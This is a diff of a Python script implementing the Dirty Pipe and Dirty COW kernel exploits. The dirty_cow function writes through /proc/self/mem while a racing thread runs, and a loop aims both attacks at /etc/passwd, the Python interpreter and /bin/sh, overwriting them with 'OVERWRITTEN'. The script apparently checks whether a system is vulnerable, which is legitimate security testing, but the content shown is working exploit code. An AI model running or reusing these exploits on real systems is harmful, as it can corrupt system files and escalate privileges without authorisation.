@@ -353,7 +353,7 @@ def dirty_pipe(path):
     os.write(writer, b"OVERWRITTEN")
 def dirty_cow(path):
     file = os.open(path, os.O_RDONLY)
-    memory = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
+    memory = mmap.mmap(file, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
     start = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith(path))
     own = os.open("/proc/self/mem", os.O_RDWR)
     def advise():
@@ -364,7 +364,7 @@ def dirty_cow(path):
         try: os.pwrite(own, b"OVERWRITTEN", start)
         except OSError: break
     thread.join()
-for path in ("/etc/passwd", os.path.realpath(sys.executable), "/bin/dash"):
+for path in ("/etc/passwd", os.path.realpath(sys.executable), os.path.realpath("/bin/sh")):
     before = open(path, "rb").read()
     for attack in (dirty_pipe, dirty_cow):
         attack(path)
